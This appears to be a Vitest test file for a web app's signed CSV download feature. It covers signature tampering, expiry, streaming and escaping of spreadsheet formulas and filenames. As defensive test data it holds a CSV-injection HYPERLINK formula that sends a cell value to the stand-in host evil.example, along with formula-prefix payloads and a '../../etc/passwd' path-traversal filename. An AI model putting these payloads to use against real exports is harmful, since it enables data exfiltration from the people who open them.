import { get, createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { parse } from 'csv-parse/sync';
import { beforeAll, describe, expect, it } from 'vitest';
import { createApp } from '../server/app.ts';
import { loadConfig } from '../server/config.ts';
import { contentDisposition, createFileHandler } from '../server/files.ts';
import { csvSafeCell, csvSafeValue } from '../server/lib/csv-safe.ts';
import { type DownloadProducer, signDownload, verifyDownload } from '../server/lib/signed-urls.ts';
import { createAppPubSub } from '../server/pubsub.ts';
import { type Auth, createTestApp, type TestApp } from './helpers/app.ts';
import { addApiKey, addMember, type SignedUpTeam, signUp } from './helpers/fixtures.ts';

// Signed download URLs and the activity CSV export, over a real port: the link is the only
// credential, so these tests fetch it with no headers at all.

const EXPORT = `mutation($input: ExportActivityInput!) { exportActivity(input: $input) {
  __typename ... on DownloadPayload { url expiresAt } ... on Error { code message path } } }`;

const FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click me")';
const DANGEROUS = { formula: FORMULA, plus: '+1', minus: '-2', at: '@SUM(A1:A9)', tab: '\tx', cr: '\rx', lf: '\nx' };

let t: TestApp;
let base: string;
let team: SignedUpTeam;
let writer: string; // events:write key: tracks SERVER events with no member behind them
let reader: string; // events:read only
let alice: string; // global IDs
let mallory: string;
let other: SignedUpTeam;
let othersUser: string;

const at = (iso: string) => new Date(iso).toISOString();

async function track(events: object[], token = writer) {
  const res = await t.gql(
    `mutation($input: TrackBatchInput!) { trackBatch(input: $input) { __typename ... on TrackBatchPayload { accepted rejected { index code message } } } }`,
    { input: { events, createMissingUsers: true } },
    { token },
  );
  expect(res.data?.trackBatch.rejected, JSON.stringify(res)).toEqual([]);
  return res.data.trackBatch.accepted as number;
}

async function userId(externalId: string, token = team.token): Promise<string> {
  const res = await t.gql(`query($e: String) { user(externalId: $e) { id } }`, { e: externalId }, { token });
  expect(res.data?.user, JSON.stringify(res)).toBeTruthy();
  return res.data.user.id;
}

async function exportActivity(input: Record<string, unknown>, auth: Auth = { token: reader }) {
  return t.gql(EXPORT, { input }, auth);
}

async function signedUrl(input: Record<string, unknown>, auth?: Auth): Promise<{ url: string; expiresAt: string }> {
  const res = await exportActivity(input, auth);
  expect(res.data?.exportActivity.__typename, JSON.stringify(res)).toBe('DownloadPayload');
  return res.data.exportActivity;
}

/** The handed-out URL names the public origin (http://pavior.test); fetch it from `origin`. */
function local(url: string, origin = base): string {
  expect(url.startsWith(`${t.config.publicUrl}/files/`)).toBe(true);
  return origin + url.slice(t.config.publicUrl.length);
}

interface Row {
  occurredAt: string;
  name: string;
  origin: string;
  properties: string;
  actorEmail: string;
  userExternalId: string;
}

async function download(url: string, origin = base): Promise<{ res: Response; rows: Row[] }> {
  const res = await fetch(local(url, origin));
  expect(res.status, res.status === 200 ? '' : await res.clone().text()).toBe(200);
  const text = await res.text();
  return { res, rows: parse(text, { bom: true, columns: true }) as Row[] };
}

beforeAll(async () => {
  t = await createTestApp();
  base = await t.listen();
  team = await signUp(t);
  writer = (await addApiKey(t, team, ['events:write'])).secret;
  reader = (await addApiKey(t, team, ['events:read'])).secret;
  await track([
    { user: { externalId: 'alice' }, name: 'Signed Up', properties: { plan: 'pro', seats: 3 }, occurredAt: '2026-01-01T10:00:00Z' },
    { user: { externalId: 'alice' }, name: 'page.viewed', properties: { ...DANGEROUS, quote: 'say "hi", then\nleave' }, occurredAt: '2026-01-02T10:00:00Z' },
    { user: { externalId: 'alice' }, name: '-2 refund', properties: {}, occurredAt: '2026-01-03T10:00:00Z' },
    { user: { externalId: '@mallory' }, name: 'Signed Up', occurredAt: '2026-01-01T11:00:00Z' },
  ]);
  alice = await userId('alice');
  mallory = await userId('@mallory');
  const note = await t.gql(
    `mutation($input: AddActivityInput!) { addActivity(input: $input) { __typename ... on Error { code message } } }`,
    { input: { userId: alice, name: 'Called', properties: { minutes: 12 }, occurredAt: '2026-01-04T10:00:00Z' } },
    { token: team.token },
  );
  expect(note.data?.addActivity.__typename, JSON.stringify(note)).toBe('EventPayload');

  other = await signUp(t);
  const otherWriter = (await addApiKey(t, other, ['events:write'])).secret;
  await track([{ user: { externalId: 'alice' }, name: 'Signed Up', occurredAt: '2026-01-01T12:00:00Z' }], otherWriter);
  othersUser = await userId('alice', other.token);
});

describe('exportActivity → signed CSV download', () => {
  it('streams the user’s events, oldest first, with every column', async () => {
    const { url, expiresAt } = await signedUrl({ userId: alice });
    expect(new URL(url).pathname).toBe('/files/activity');
    const ttl = (Date.parse(expiresAt) - Date.now()) / 1000;
    expect(ttl).toBeGreaterThan(890);
    expect(ttl).toBeLessThanOrEqual(900);

    const { res, rows } = await download(url);
    expect(res.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(res.headers.get('cache-control')).toBe('no-store');
    expect(res.headers.get('content-disposition')).toMatch(/^attachment; filename="activity-alice-\d{4}-\d{2}-\d{2}\.csv"$/);

    // The creation of alice by tracking is a SYSTEM event too ("user.created", occurring now).
    const tracked = rows.filter((r) => r.name !== 'user.created');
    expect(rows.find((r) => r.name === 'user.created')?.origin).toBe('SYSTEM');
    expect(Object.keys(rows[0]!)).toEqual(['occurredAt', 'name', 'origin', 'properties', 'actorEmail', 'userExternalId']);
    expect(tracked.map((r) => [r.occurredAt, r.name, r.origin, r.actorEmail, r.userExternalId])).toEqual([
      [at('2026-01-01T10:00:00Z'), 'Signed Up', 'SERVER', '', 'alice'],
      [at('2026-01-02T10:00:00Z'), 'page.viewed', 'SERVER', '', 'alice'],
      [at('2026-01-03T10:00:00Z'), "'-2 refund", 'SERVER', '', 'alice'], // a leading '-' is neutralised
      [at('2026-01-04T10:00:00Z'), 'Called', 'MANUAL', team.adminEmail, 'alice'],
    ]);
    expect(JSON.parse(tracked[0]!.properties)).toEqual({ plan: 'pro', seats: 3 });
    expect(JSON.parse(tracked[3]!.properties)).toEqual({ minutes: 12 });
  });

  it('keeps formula-like property values intact inside the JSON cell, which a spreadsheet reads as text', async () => {
    const { url } = await signedUrl({ userId: alice, names: ['page.viewed'] });
    const { rows } = await download(url);
    expect(rows).toHaveLength(1);
    // The cell starts with "{", so it is never a formula; quotes, commas and newlines survive
    // csv quoting and the values come back exactly.
    expect(rows[0]!.properties.startsWith('{')).toBe(true);
    expect(JSON.parse(rows[0]!.properties)).toEqual({ ...DANGEROUS, quote: 'say "hi", then\nleave' });
  });

  it('neutralises a formula-like cell of its own (an externalId starting with @)', async () => {
    const { url } = await signedUrl({ userId: mallory });
    const { res, rows } = await download(url);
    expect(rows.map((r) => r.userExternalId)).toEqual(rows.map(() => "'@mallory"));
    expect(res.headers.get('content-disposition')).toMatch(/^attachment; filename="activity-mallory-[\d-]+\.csv"; filename\*=UTF-8''activity-%40mallory-/);
  });

  it('filters by names and by [from, to)', async () => {
    const byName = await download((await signedUrl({ userId: alice, names: ['Signed Up', 'Called'] })).url);
    expect(byName.rows.map((r) => r.name)).toEqual(['Signed Up', 'Called']);
    const byTime = await download((await signedUrl({ userId: alice, from: '2026-01-02T10:00:00Z', to: '2026-01-04T10:00:00Z' })).url);
    expect(byTime.rows.map((r) => r.name)).toEqual(['page.viewed', "'-2 refund"]);
  });

  it('answers NOT_FOUND for another team’s user and a malformed ID, exactly like a missing one', async () => {
    for (const userId of [othersUser, 'not-an-id']) {
      const res = await exportActivity({ userId });
      expect(res.data?.exportActivity, JSON.stringify(res)).toMatchObject({ __typename: 'NotFoundError', code: 'NOT_FOUND', path: ['input', 'userId'] });
    }
  });

  it('needs events:read: FORBIDDEN for a key without it, UNAUTHENTICATED without a credential', async () => {
    const noRead = await exportActivity({ userId: alice }, { token: writer });
    expect(noRead.errors?.[0]?.extensions?.code).toBe('FORBIDDEN');
    const anonymous = await exportActivity({ userId: alice }, {});
    expect(anonymous.errors?.[0]?.extensions?.code).toBe('UNAUTHENTICATED');
    const member = await addMember(t, team);
    expect((await exportActivity({ userId: alice }, { token: member.token })).data?.exportActivity.__typename).toBe('DownloadPayload');
  });

  it('limits the names a link carries', async () => {
    const names = Array.from({ length: 51 }, (_, i) => `event ${i}`);
    const res = await exportActivity({ userId: alice, names });
    expect(res.data?.exportActivity).toMatchObject({ __typename: 'LimitError', code: 'LIMIT_EXCEEDED', path: ['input', 'names'] });
  });

  it('streams across pages: 2,500 events arrive complete and in order', async () => {
    const start = Date.parse('2025-06-01T00:00:00Z');
    const events = Array.from({ length: 2500 }, (_, i) => ({
      user: { externalId: 'busy' },
      name: 'tick',
      properties: { i },
      occurredAt: new Date(start + i * 1000).toISOString(),
    }));
    for (let i = 0; i < events.length; i += 1000) await track(events.slice(i, i + 1000));
    const { rows } = await download((await signedUrl({ userId: await userId('busy'), names: ['tick'] })).url);
    expect(rows).toHaveLength(2500);
    expect(rows.map((r) => JSON.parse(r.properties).i)).toEqual(events.map((_, i) => i));
  });
});

describe('signed URLs', () => {
  it('refuse a tampered signature, a changed param and a missing signature with 403', async () => {
    const { url } = await signedUrl({ userId: alice });
    const signed = new URL(url);
    const sig = signed.searchParams.get('sig')!;

    const badSig = new URL(signed);
    badSig.searchParams.set('sig', (sig[0] === 'A' ? 'B' : 'A') + sig.slice(1));
    const res = await fetch(local(badSig.toString()));
    expect(res.status).toBe(403);
    expect(res.headers.get('content-type')).toBe('application/json');
    expect(await res.json()).toEqual({ error: { code: 'BAD_SIGNATURE', message: expect.any(String) } });

    // Pointing a valid signature at another team's user, or at the other team, does not verify.
    const { url: theirs } = await signedUrl({ userId: othersUser }, { token: other.token });
    const theirUserId = new URL(theirs).searchParams.get('user')!;
    const otherUser = new URL(signed);
    otherUser.searchParams.set('user', theirUserId);
    const otherTeam = new URL(theirs);
    otherTeam.searchParams.set('team', signed.searchParams.get('team')!);
    for (const changed of [otherUser, otherTeam]) {
      const answer = await fetch(local(changed.toString()));
      expect(answer.status).toBe(403);
      expect((await answer.json()).error.code).toBe('BAD_SIGNATURE');
    }

    const unsigned = new URL(signed);
    unsigned.searchParams.delete('sig');
    const missing = await fetch(local(unsigned.toString()));
    expect(missing.status).toBe(403);
    expect((await missing.json()).error.code).toBe('MALFORMED');
  });

  it('refuse an expired link with 403, and say so', async () => {
    const deps = { db: t.db, config: t.config };
    const claims = new URL((await signedUrl({ userId: alice })).url).searchParams;
    const expired = await signDownload(deps, { kind: 'activity', teamId: claims.get('team')!, params: { user: claims.get('user')! }, ttlSeconds: -1 });
    expect(expired.expiresAt.getTime()).toBeLessThan(Date.now());
    const res = await fetch(local(expired.url));
    expect(res.status).toBe(403);
    expect(await res.json()).toEqual({ error: { code: 'EXPIRED', message: expect.stringMatching(/expired/) } });

    // verifyDownload itself: valid until exp, expired from exp on.
    const fresh = await signDownload(deps, { kind: 'activity', teamId: 'x', params: { a: '1' }, ttlSeconds: 60 });
    expect(await verifyDownload(deps, fresh.url)).toEqual({ ok: true, download: { kind: 'activity', teamId: 'x', params: { a: '1' }, expiresAt: fresh.expiresAt } });
    expect(await verifyDownload(deps, fresh.url, fresh.expiresAt.getTime())).toEqual({ ok: false, reason: 'expired' });
  });

  it('answer 404 for an unknown kind and 405 for anything but GET', async () => {
    const unknown = await fetch(`${base}/files/nothing-here?team=x&exp=1&sig=y`);
    expect(unknown.status).toBe(404);
    expect((await unknown.json()).error.code).toBe('NOT_FOUND');
    const { url } = await signedUrl({ userId: alice });
    const post = await fetch(local(url), { method: 'POST' });
    expect(post.status).toBe(405);
    expect(post.headers.get('allow')).toBe('GET');
  });

  it('share one key across app instances on the same database, and across restarts', async () => {
    const { url } = await signedUrl({ userId: alice });
    const expected = (await download(url)).rows;

    // A second instance: its own Db handle over the same database, so nothing it knows comes
    // from the first instance's memory; it must read the key the first one stored.
    const config = loadConfig({ NODE_ENV: 'test', PUBLIC_URL: t.config.publicUrl });
    const pubsub = createAppPubSub();
    const second = createApp({ config, db: t.db.withTables<{}>(), pubsub });
    const secondBase = await second.start(0, '127.0.0.1');
    try {
      expect((await download(url, secondBase)).rows).toEqual(expected);
    } finally {
      await second.stop();
      await pubsub.close();
    }
    const stored = await t.db.selectFrom('serverSettings').select(['key', 'value']).where('key', '=', 'signing_secret').execute();
    expect(stored).toHaveLength(1);
    expect(Buffer.from(stored[0]!.value, 'base64url')).toHaveLength(32);
  });

  it('use SIGNING_SECRET when it is set: links of the stored key then fail, and its own pass', async () => {
    const { url } = await signedUrl({ userId: alice });
    const config = loadConfig({ NODE_ENV: 'test', PUBLIC_URL: t.config.publicUrl, SIGNING_SECRET: 'k'.repeat(40) });
    const pubsub = createAppPubSub();
    const configured = createApp({ config, db: t.db, pubsub });
    const configuredBase = await configured.start(0, '127.0.0.1');
    try {
      expect((await fetch(local(url, configuredBase))).status).toBe(403);
      const own = await signDownload({ db: t.db, config }, { kind: 'activity', teamId: new URL(url).searchParams.get('team')!, params: { user: new URL(url).searchParams.get('user')! }, ttlSeconds: 60 });
      expect((await download(own.url, configuredBase)).rows.length).toBeGreaterThan(0);
    } finally {
      await configured.stop();
      await pubsub.close();
    }
    expect(() => loadConfig({ SIGNING_SECRET: 'short' })).toThrow(/at least 32/);
  });
});

describe('the file route streams', () => {
  it('no faster than the client reads, and stops producing when the client goes away', async () => {
    const CHUNK = 64 * 1024;
    const TOTAL = 400; // 25 MiB if it were all produced
    let produced = 0;
    let closed = false;
    const big: DownloadProducer = {
      async open() {
        async function* chunks() {
          try {
            for (; produced < TOTAL; produced++) yield Buffer.alloc(CHUNK, 97);
          } finally {
            closed = true;
          }
        }
        return { contentType: 'application/octet-stream', fileName: 'big.bin', chunks: chunks() };
      },
    };
    const handler = createFileHandler({ db: t.db, config: t.config }, { big });
    const server = createServer((req, res) => void handler(req, res));
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    const origin = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
    try {
      const { url } = await signDownload({ db: t.db, config: t.config }, { kind: 'big', teamId: 'x', params: {}, ttlSeconds: 60 });
      const request = get(local(url, origin));
      const response = await new Promise<import('node:http').IncomingMessage>((resolve) => request.once('response', resolve));
      expect(response.statusCode).toBe(200);
      response.pause(); // a slow reader: nothing more is read until it is destroyed
      await new Promise((r) => setTimeout(r, 500));
      const whilePaused = produced;
      expect(whilePaused).toBeLessThan(TOTAL);
      await new Promise((r) => setTimeout(r, 300));
      expect(produced).toBe(whilePaused); // waiting for 'drain', not producing
      request.destroy();
      await expect.poll(() => closed, { timeout: 5000 }).toBe(true);
      expect(produced).toBeLessThan(TOTAL);
    } finally {
      server.closeAllConnections();
      await new Promise((resolve) => server.close(resolve));
    }
  });
});

describe('csv-safe', () => {
  it('prefixes each dangerous leading character with a single quote', () => {
    for (const value of ['=1+1', FORMULA, '+1', '-2', '@SUM(A1)', '\tx', '\rx', '\nx', '=', '-']) {
      expect(csvSafeCell(value)).toBe(`'${value}`);
    }
  });

  it('leaves everything else alone', () => {
    for (const value of ['', 'alice', '1+1', 'a=b', ' =1', "'=1", '{"a":"=1"}', '2026-01-01T00:00:00.000Z', 'x\n=1', '€=1']) {
      expect(csvSafeCell(value)).toBe(value);
    }
  });

  it('turns any value into safe text', () => {
    expect(csvSafeValue(null)).toBe('');
    expect(csvSafeValue(undefined)).toBe('');
    expect(csvSafeValue(new Date('2026-01-01T00:00:00Z'))).toBe('2026-01-01T00:00:00.000Z');
    expect(csvSafeValue(-2)).toBe('-2'); // a number's text is only ever a numeral
    expect(csvSafeValue('-2')).toBe("'-2");
    expect(csvSafeValue(true)).toBe('true');
    expect(csvSafeValue({ a: '=1' })).toBe('{"a":"=1"}');
  });
});

describe('content-disposition', () => {
  it('names the file safely: no path, quotes or control characters; the full name in RFC 5987 form', () => {
    expect(contentDisposition('activity-alice.csv')).toBe('attachment; filename="activity-alice.csv"');
    expect(contentDisposition('../../etc/passwd')).toBe('attachment; filename="passwd"');
    expect(contentDisposition('a"b\r\nc.csv')).toBe(`attachment; filename="a-b-c.csv"; filename*=UTF-8''a%22bc.csv`);
    expect(contentDisposition('Zoë ünïcode.csv')).toMatch(/^attachment; filename="Zoe-unicode\.csv"; filename\*=UTF-8''Zo%C3%AB%20%C3%BCn%C3%AFcode\.csv$/);
  });
});
